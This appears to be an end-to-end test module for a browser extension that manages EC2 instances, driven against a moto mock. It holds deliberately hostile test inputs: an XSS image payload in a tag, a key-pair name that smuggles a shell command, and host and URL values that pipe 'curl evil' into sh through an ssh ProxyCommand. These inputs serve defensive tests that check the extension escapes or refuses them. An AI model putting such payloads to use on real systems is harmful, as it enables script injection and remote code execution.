// The EC2 scenario both browsers must pass: find an image, launch it through the dialog, watch it
// come up without a manual refresh, read its console, tag it, stop, start, reboot, terminate.
import { execFileSync } from 'node:child_process';
import { expect } from 'vitest';
import { reloadPage } from '../support/browser-adapter';
import type { FrontDoor } from '../support/front-door';
import { bodyText, fill, press, run, type TypingPage, waitForText } from './profiles-scenarios';
import { waitFor } from './shell-scenarios';

/** An AMI moto always has, owned by "amazon". */
export const MOTO_IMAGE = 'ami-12c6146b';
export const XSS_TAG = '<img src=x onerror=alert(1)>';
/** An image id no cloud has; moto launches any id, so the front door refuses it as Eucalyptus does. */
export const MISSING_IMAGE = 'emi-0123ABCD';

/** A key pair the cloud no longer has when the launch arrives (moto checks no key names). */
export const GONE_KEY = 'gone-key';

function ec2Error(status: number, code: string, message: string) {
  return {
    status,
    body: `<?xml version="1.0" encoding="UTF-8"?><Response><Errors><Error><Code>${code}</Code><Message>${message}</Message></Error></Errors><RequestID>5f1b9a6e-0000-4000-8000-000000000001</RequestID></Response>`,
  };
}

/**
 * What moto lets through but Eucalyptus refuses, answered the way Eucalyptus does; and
 * throttling on demand: while `throttle.describeInstances` is above 0, DescribeInstances gets
 * RequestLimitExceeded (503) and the count goes down.
 */
export function eucalyptusRefusals(throttle: { describeInstances: number }) {
  return (action: string, params: Array<[string, string]>) => {
    const value = (name: string) => params.find(([key]) => key === name)?.[1];
    if (action === 'RunInstances' && value('ImageId') === MISSING_IMAGE)
      return ec2Error(
        400,
        'InvalidAMIID.NotFound',
        `The image id '[${MISSING_IMAGE}]' does not exist`,
      );
    if (action === 'RunInstances' && value('KeyName') === GONE_KEY)
      return ec2Error(400, 'InvalidKeyPair.NotFound', `The key pair '${GONE_KEY}' does not exist`);
    if (action === 'DescribeInstances' && throttle.describeInstances > 0) {
      throttle.describeInstances--;
      return ec2Error(503, 'RequestLimitExceeded', 'Request limit exceeded.');
    }
    return undefined;
  };
}

/**
 * An ec2Rewrite for the front door: instances stay "pending" for `ms` after RunInstances, as on
 * a real cloud, so the panel has something to poll for. moto reports them running at once.
 */
export function keepPending(ms: number): (action: string, body: string) => string {
  const launched = new Map<string, number>();
  return (action, body) => {
    if (action === 'RunInstances') {
      for (const match of body.matchAll(/<instanceId>([^<]+)<\/instanceId>/g))
        launched.set(match[1] ?? '', Date.now());
    }
    if (action !== 'DescribeInstances') return body;
    let out = body;
    for (const [id, at] of launched) {
      if (Date.now() - at >= ms) continue;
      const state = new RegExp(
        `(<instanceId>${id}</instanceId>[\\s\\S]*?<instanceState>\\s*<code>)16(</code>\\s*<name>)running(</name>)`,
      );
      out = out.replace(state, '$10$2pending$3');
    }
    return out;
  };
}

async function rowState(page: TypingPage, id: string): Promise<string> {
  return run<string>(
    page,
    `const row = document.querySelector('tr[data-key="${id}"]');
     return row ? row.querySelector('.state')?.textContent ?? '' : '';`,
  );
}

async function waitForState(page: TypingPage, id: string, state: string, timeout = 30_000) {
  await waitFor(
    page,
    new Function(
      `const row = document.querySelector('tr[data-key="${id}"]');
       return row && row.querySelector('.state') && row.querySelector('.state').textContent === ${JSON.stringify(state)};`,
    ) as () => boolean,
    `${id} ${state}`,
    timeout,
  );
}

async function chooseOption(page: TypingPage, label: string, value: string) {
  // As Playwright's selectOption and Puppeteer's select do: set the value, fire change. A label
  // around a select holds the options' text too, so it is matched by its own first line.
  await waitFor(
    page,
    new Function(
      `const scope = document.querySelector('dialog[open]') ?? document;
       const l = [...scope.querySelectorAll('label')].find((x) => (x.firstElementChild?.textContent ?? x.textContent).trim() === ${JSON.stringify(label)});
       const s = l && (l.control ?? l.querySelector('select'));
       if (!s) return false;
       s.value = ${JSON.stringify(value)};
       s.dispatchEvent(new Event('change', { bubbles: true }));
       return true;`,
    ) as () => boolean,
    `a select labelled "${label}"`,
  );
}

async function clickRow(page: TypingPage, key: string) {
  await waitFor(
    page,
    new Function(`return !!document.querySelector('tr[data-key="${key}"]');`) as () => boolean,
    `row ${key}`,
  );
  await page.click(`tr[data-key="${key}"] td`);
}

/** Images: Amazon's view, search, select, Launch; returns the new instance id. */
export async function launchFromImages(page: TypingPage, frontDoor: FrontDoor): Promise<string> {
  await page.click('#tab-images');
  await chooseOption(page, 'Show', 'amazon');
  await waitFor(
    page,
    () => /^\d+ of (\d{3,})$/.test(document.querySelector('.toolbar .count')?.textContent ?? ''),
    'the Amazon images listed',
  );
  await fill(page, 'Search', MOTO_IMAGE);
  await waitForText(page, '1 of ');
  await clickRow(page, MOTO_IMAGE);
  const runsBefore = frontDoor.requests.filter((r) => r.action === 'RunInstances').length;
  await press(page, 'Launch');
  await fill(page, 'Name tag', 'e2e web');
  // The command line follows the form (a Eucalyptus profile: euca2ools).
  const command = await run<string>(
    page,
    `return document.getElementById('launch-command').value;`,
  );
  expect(command).toContain(`euca-run-instances ${MOTO_IMAGE} -n 1`);
  expect(command).toContain("--tag 'Name=e2e web'");
  await press(page, 'Launch');
  await waitForText(page, 'Launched: i-');
  const text = await bodyText(page);
  const id = /Launched: (i-[0-9a-f]+)/.exec(text)?.[1] ?? '';
  expect(id).toMatch(/^i-/);
  await press(page, 'Close');
  expect(frontDoor.requests.filter((r) => r.action === 'RunInstances').length).toBe(runsBefore + 1);
  return id;
}

/** Instances: pending turns running by polling, console, tags (markup stays text), stop/start/reboot, terminate. */
export async function instanceLifecycle(page: TypingPage, frontDoor: FrontDoor, id: string) {
  await page.click('#tab-instances');
  await waitFor(
    page,
    new Function(`return !!document.querySelector('tr[data-key="${id}"]');`) as () => boolean,
    `instance ${id} listed`,
  );
  expect(await rowState(page, id)).toBe('pending…');
  const describesBefore = frontDoor.requests.filter((r) => r.action === 'DescribeInstances').length;
  await waitForState(page, id, 'running');
  // Nobody pressed Refresh: the panel polled while the instance was pending.
  expect(frontDoor.requests.filter((r) => r.action === 'DescribeInstances').length).toBeGreaterThan(
    describesBefore,
  );
  await waitForText(page, `e2e web`);

  await clickRow(page, id);
  await press(page, 'Console output');
  await waitFor(
    page,
    () => (document.querySelector('dialog[open] .console-output')?.textContent ?? '').length > 0,
    'console output',
  );
  await press(page, 'Close');

  await press(page, 'Tags…');
  await press(page, 'Add tag');
  await fill(page, 'Key of tag 2', 'note');
  await fill(page, 'Value of tag 2', XSS_TAG);
  await press(page, 'Save');
  await waitForText(page, `Tags saved: ${id}.`);
  await waitForText(page, XSS_TAG);
  const injected = await run<boolean>(page, `return !!document.querySelector('img[src="x"]');`);
  expect(injected, 'a tag value is shown as text, never as markup').toBe(false);

  await press(page, 'Stop');
  await waitForState(page, id, 'stopped');
  await press(page, 'Start');
  await waitForState(page, id, 'running');
  await press(page, 'Reboot');
  await waitForText(page, `Rebooting ${id}.`);

  await press(page, 'Terminate');
  await waitForText(page, `e2e web (${id})`);
  await press(page, 'Terminate 1 instance(s)');
  await waitForText(page, `Terminating ${id}.`);
  await waitForState(page, id, 'terminated');
}

/** A launch the cloud refuses keeps the form; user data over 16 KB is refused before sending. */
export async function launchRefusals(page: TypingPage, frontDoor: FrontDoor) {
  await page.click('#tab-instances');
  await press(page, 'Launch…');
  await fill(page, 'Image ID', MISSING_IMAGE);
  await fill(page, 'Name tag', 'kept after an error');
  const runsBefore = frontDoor.requests.filter((r) => r.action === 'RunInstances').length;
  await press(page, 'Launch');
  await waitForText(page, 'No image with that ID in this region');
  await waitForText(page, `The image id '[${MISSING_IMAGE}]' does not exist`);
  const kept = await run<string>(page, `return document.getElementById('launch-name').value;`);
  expect(kept).toBe('kept after an error');

  // Pasted, as a person would bring a long script: insertText fires the same input event.
  await fill(page, 'User data', 'x');
  await run(page, `document.execCommand('insertText', false, 'x'.repeat(17 * 1024 - 1));`);
  await press(page, 'Launch');
  await waitForText(page, 'User data is 17408 bytes; EC2 takes at most 16384.');
  expect(frontDoor.requests.filter((r) => r.action === 'RunInstances').length).toBe(runsBefore + 1);
  await press(page, 'Cancel');
}

/**
 * Save a launch as a preset, launch it from the toolbar popup, close the popup: the background
 * follows the instance and notifies once it runs; the notification's action copies the SSH command.
 */
export async function quickLaunchScenario(
  page: TypingPage,
  openPage: (path: string) => Promise<TypingPage & { close(): Promise<unknown> }>,
  /** Headless Firefox closes a notification as soon as it is shown, so getAll() never sees it. */
  notifications: 'observable' | 'closed-at-once',
) {
  await page.click('#tab-instances');
  await press(page, 'Launch…');
  await fill(page, 'Image ID', MOTO_IMAGE);
  await fill(page, 'Preset name', 'web preset');
  // No passphrase in this browser: the dialog says the user data would be kept plain.
  await waitForText(page, 'user data is kept unencrypted on this computer');
  await press(page, 'Save as preset');
  await waitForText(page, 'Preset “web preset” saved');
  await press(page, 'Cancel');

  const popup = await openPage('popup.html');
  await press(popup, 'Launch “web preset”');
  await waitForText(popup, 'You will get a notification when it runs');
  const id = /Launched (i-[0-9a-f]+)/.exec(await bodyText(popup))?.[1] ?? '';
  expect(id).toMatch(/^i-/);
  await popup.close();

  // The Instances panel, open in the tab all along, shows the new instance by itself.
  await waitForText(page, id);

  // The popup, opened again, tells how the launch ended, with the address and the SSH command.
  const again = await openPage('popup.html');
  await waitForText(again, `“web preset”: ${id} running at `, 40_000);
  await again.close();

  // The outcome the background kept, and the notification naming it (its id, never its command).
  const outcome = await run<{ id: string; ssh: string }>(
    page,
    `const api = globalThis.browser ?? globalThis.chrome;
     return api.storage.local.get('launch.outcomes').then((r) => r['launch.outcomes'].value[0]);`,
  );
  expect(outcome.ssh).toMatch(/^ssh ec2-user@\S+/);
  if (notifications === 'observable') {
    const notification = await waitFor(
      page,
      new Function(
        `const api = globalThis.browser ?? globalThis.chrome;
         return api.notifications.getAll().then((all) =>
           Object.keys(all).find((key) => key.startsWith('cirrus-launch:')));`,
      ) as () => Promise<string | undefined>,
      'the launch notification',
    );
    expect(notification).toBe(`cirrus-launch:${outcome.id}`);
  }

  // Its click opens the panel on that launch: the command is shown, and copied only on a click.
  const shown = await openPage(`panel.html?launch=${encodeURIComponent(outcome.id)}`);
  await waitForText(shown, outcome.ssh);
  await waitForText(shown, 'SSH command for “web preset”');
  await shown.click('.launch-ssh button');
  await waitFor(
    shown,
    () => /Copied|copy it by hand/.test(document.querySelector('.launch-ssh')?.textContent ?? ''),
    'copied, or the clipboard refused',
  );
  await shown.close();

  // A URL can no longer put text on the clipboard or the page, and an unknown launch says so.
  const forged = await openPage('panel.html?copy=curl%20evil%7Csh&launch=no-such-launch');
  await waitForText(forged, 'not among the last quick launches');
  expect(await bodyText(forged)).not.toContain('curl evil');
  await forged.close();
}

/**
 * Throttling: a few refusals are retried quietly and the list arrives; a cloud that keeps
 * refusing gets a message that says so. A key pair gone by launch time: a message, form kept.
 */
export async function throttlingAndMissingKey(
  page: TypingPage,
  frontDoor: FrontDoor,
  throttle: { describeInstances: number },
  createKey: (name: string) => Promise<void>,
) {
  await page.click('#tab-instances');
  await waitFor(page, () => document.querySelectorAll('tr[data-key]').length > 0, 'instances');
  throttle.describeInstances = 2;
  const before = frontDoor.requests.filter((r) => r.action === 'DescribeInstances').length;
  await press(page, 'Refresh');
  await waitFor(
    page,
    () => !document.body.innerText.includes('RequestLimitExceeded'),
    'no throttling message',
  );
  await expect
    .poll(() => frontDoor.requests.filter((r) => r.action === 'DescribeInstances').length - before)
    .toBeGreaterThanOrEqual(3);
  expect(throttle.describeInstances).toBe(0);
  expect(await bodyText(page)).not.toContain('RequestLimitExceeded');

  throttle.describeInstances = 100;
  await press(page, 'Refresh');
  await waitForText(page, 'RequestLimitExceeded', 30_000);
  await waitForText(page, 'Request limit exceeded.');
  throttle.describeInstances = 0;
  await press(page, 'Refresh');
  await waitFor(
    page,
    () => !document.body.innerText.includes('RequestLimitExceeded'),
    'the message gone once the cloud answers',
  );

  await createKey(GONE_KEY);
  await press(page, 'Launch…');
  await fill(page, 'Image ID', MOTO_IMAGE);
  await waitFor(
    page,
    new Function(
      `return [...document.querySelectorAll('#launch-key option')].some((o) => o.value === ${JSON.stringify(GONE_KEY)});`,
    ) as () => boolean,
    'the key pair offered',
  );
  await chooseOption(page, 'Key pair', GONE_KEY);
  await press(page, 'Launch');
  await waitForText(page, 'No key pair by that name in this region');
  const kept = await run<string>(page, `return document.getElementById('launch-image').value;`);
  expect(kept).toBe(MOTO_IMAGE);
  await press(page, 'Cancel');
}

/** Register from a manifest, share and make public, then deregister: all from the Images tab. */
export async function imageManagement(page: TypingPage) {
  await page.click('#tab-images');
  await chooseOption(page, 'Show', 'mine');
  await press(page, 'Register image…');
  await fill(page, 'Manifest location', 'no-slash');
  await fill(page, 'Name', 'e2e image');
  await press(page, 'Register');
  await waitForText(page, 'Write bucket/path/image.manifest.xml');
  await fill(page, 'Manifest location', 'e2e-bucket/e2e.img.manifest.xml');
  await press(page, 'Register');
  await waitForText(page, 'Done: ami-');
  const imageId = /Done: (ami-[0-9a-f]+)/.exec(await bodyText(page))?.[1] ?? '';
  await clickRow(page, imageId);

  await press(page, 'Launch permissions');
  await waitForText(page, 'Private: only the accounts below can launch it.');
  await press(page, 'Make public');
  await waitForText(page, 'Public: every account can launch it.');
  await fill(page, 'Account ID to add', '12345');
  await press(page, 'Add');
  await waitForText(page, 'An account ID is 12 digits');
  await fill(page, 'Account ID to add', '123456789013');
  await press(page, 'Add');
  await waitForText(page, 'Remove 123456789013');
  await press(page, 'Remove 123456789013');
  await waitForText(page, 'No accounts.');
  await press(page, 'Close');

  await press(page, 'Deregister');
  await waitForText(page, `Deregister ${imageId}?`);
  await press(page, 'Deregister 1 image(s)');
  await waitForText(page, `Done: ${imageId}`);
  await waitFor(
    page,
    new Function(`return !document.querySelector('tr[data-key="${imageId}"]');`) as () => boolean,
    'the image gone from the list',
  );
}

/** The column choice and the sort order survive a reload. */
export async function instanceTablePrefs(page: TypingPage) {
  await page.click('#tab-instances');
  await waitFor(page, () => document.querySelectorAll('tr[data-key]').length > 0, 'instances');
  await press(page, 'Columns…');
  await run(page, `document.getElementById('column-zone').click();`);
  await press(page, 'Close');
  await page.click('th:nth-child(2) .sort-button');
  const headers = () =>
    run<string[]>(
      page,
      `return [...document.querySelectorAll('th')].map((th) => th.textContent.trim());`,
    );
  await waitFor(
    page,
    () =>
      document.querySelector('th[aria-sort="ascending"]')?.textContent?.includes('Instance ID') ??
      false,
    'sorted by instance id',
  );
  expect(await headers()).not.toContain('Zone');
  await reloadPage(page);
  await waitFor(
    page,
    () => document.readyState === 'complete' && !!document.getElementById('tab-instances'),
    'the panel again',
  );
  await page.click('#tab-instances');
  await waitFor(
    page,
    () =>
      document.querySelector('th[aria-sort="ascending"]')?.textContent?.includes('Instance ID') ??
      false,
    'still sorted by instance id after a reload',
  );
  expect(await headers()).not.toContain('Zone');
  const ids = await run<string[]>(
    page,
    `return [...document.querySelectorAll('tr[data-key]')].map((tr) => tr.dataset.key);`,
  );
  expect(ids).toEqual([...ids].sort());
}

interface CliInstances {
  Reservations: Array<{
    Instances: Array<{ State: { Name: string }; Tags?: Array<{ Key: string; Value: string }> }>;
  }>;
}

/** The AWS CLI, asked the same moto, reports the instance terminated with the tags set in the panel. */
export function cliSeesInstance(cli: (args: string[]) => unknown, id: string) {
  const found = cli(['ec2', 'describe-instances', '--instance-ids', id]) as CliInstances;
  const instance = found.Reservations[0]?.Instances[0];
  expect(instance?.State.Name).toBe('terminated');
  expect(instance?.Tags).toEqual(
    expect.arrayContaining([
      { Key: 'Name', Value: 'e2e web' },
      { Key: 'note', Value: XSS_TAG },
    ]),
  );
}

/** A key pair name EC2 allows (ASCII) that a shell would run if the command were not quoted. */
export const HOSTILE_KEY = `k;$(touch /tmp/cirrus-e2e-pwned)'q`;

/** The words a real POSIX shell makes of a command line; it runs nothing but printf. */
export function shellWords(line: string): string[] {
  // `set --` turns the line's words into "$@" (a `;` or `$(…)` left unquoted would run here).
  const out = execFileSync('/bin/sh', ['-c', `set -- ${line}\nprintf '%s\\0' "$@"`], {
    encoding: 'utf8',
  });
  return out.split('\0').slice(0, -1);
}

/**
 * An instance whose key pair name holds `;`, `$()` and a quote: the panel's Copy SSH command
 * gives a line a POSIX shell splits into exactly ssh, -i, NAME.pem, USER@HOST.
 */
export async function hostileKeyName(page: TypingPage, instanceId: string, host: string) {
  await page.click('#tab-instances');
  await press(page, 'Refresh');
  await clickRow(page, instanceId);
  await press(page, 'Copy SSH command');
  // Copied, or shown to copy by hand where a headless browser keeps the clipboard from the page.
  const note = await waitFor(
    page,
    () =>
      [...document.querySelectorAll('.notice[role="status"]')]
        .map((e) => e.textContent ?? '')
        .find((text) => /^(Copied|SSH command): ssh /.test(text)),
    'the SSH command on the page',
  );
  const line = note.replace(/^(Copied|SSH command): /, '');
  expect(shellWords(line)).toEqual(['ssh', '-i', `${HOSTILE_KEY}.pem`, `ec2-user@${host}`]);
}

/** Ten years, as a server with a broken (or hostile) clock would have it. */
export const TEN_YEARS_MS = 10 * 365 * 24 * 60 * 60_000;

function storedOffsets(page: TypingPage) {
  return run<{ current: string; offsets: Record<string, number> }>(
    page,
    `const api = globalThis.browser ?? globalThis.chrome;
     return api.storage.local.get(['profiles', 'clock.offsets']).then((r) => ({
       current: r.profiles.value.currentId,
       offsets: r['clock.offsets']?.value ?? {},
     }));`,
  );
}

/**
 * A server 10 years ahead: the list load is refused with the clock message, and the profile's
 * clock offset stays what it was. The cloud's clock is set right again afterwards.
 */
export async function serverYearsAhead(page: TypingPage, frontDoor: FrontDoor) {
  await page.click('#tab-instances');
  await waitFor(page, () => document.querySelectorAll('tr[data-key]').length > 0, 'instances');
  const before = await storedOffsets(page);
  expect(before.current).toBeTruthy();
  frontDoor.setClockOffset(TEN_YEARS_MS);
  try {
    await press(page, 'Refresh');
    await waitForText(page, 'ClockOutOfRange');
    await waitForText(page, 'minutes (the server is ahead of this computer)');
    const after = await storedOffsets(page);
    expect(after.offsets[after.current]).toBe(before.offsets[before.current]);
    expect(Math.abs(after.offsets[after.current] ?? 0)).toBeLessThanOrEqual(60 * 60_000);
  } finally {
    frontDoor.setClockOffset(0);
  }
  await press(page, 'Refresh');
  await waitFor(
    page,
    () => !document.body.innerText.includes('ClockOutOfRange'),
    'the list again once the clock is right',
  );
}

/** A "DNS name" a hostile endpoint could send: ssh would read it as an option. */
export const HOSTILE_HOST = '-oProxyCommand=curl evil|sh';

/**
 * An ec2Rewrite (after `inner`) that gives chosen instances the DNS name in `hosts`: what a
 * malicious endpoint or a proxy in the way could answer.
 */
export function rewriteHosts(
  inner: (action: string, body: string) => string,
  hosts: Map<string, string>,
): (action: string, body: string) => string {
  return (action, body) => {
    let out = inner(action, body);
    if (action !== 'DescribeInstances') return out;
    for (const [id, host] of hosts) {
      const dns = new RegExp(
        `(<instanceId>${id}</instanceId>[\\s\\S]*?<dnsName>)[^<]*(</dnsName>)`,
      );
      out = out.replace(dns, `$1${host}$2`);
    }
    return out;
  };
}

/**
 * The cloud now gives the instance a host name that is not one: Copy SSH in the panel and in
 * the popup says so, naming it as text, and copies nothing.
 */
export async function hostileHost(
  page: TypingPage,
  openPage: (path: string) => Promise<TypingPage & { close(): Promise<unknown> }>,
  instanceId: string,
) {
  const refusal = `the host name the cloud gave, “${HOSTILE_HOST}”, is not a valid host name`;
  await page.click('#tab-instances');
  await press(page, 'Refresh');
  // Still selected: its details show the new name once the list has it.
  await waitForText(page, HOSTILE_HOST);
  await press(page, 'Copy SSH command');
  await waitForText(page, refusal);
  expect(await bodyText(page)).not.toMatch(/(Copied|SSH command): ssh /);

  const popup = await openPage('popup.html');
  const row = `[data-instance="${instanceId}"]`;
  await waitFor(
    popup,
    new Function(`return !!document.querySelector(${JSON.stringify(row)});`) as () => boolean,
    'the instance in the popup',
  );
  await popup.click(`${row} button`);
  await waitForText(popup, refusal);
  await popup.close();
}
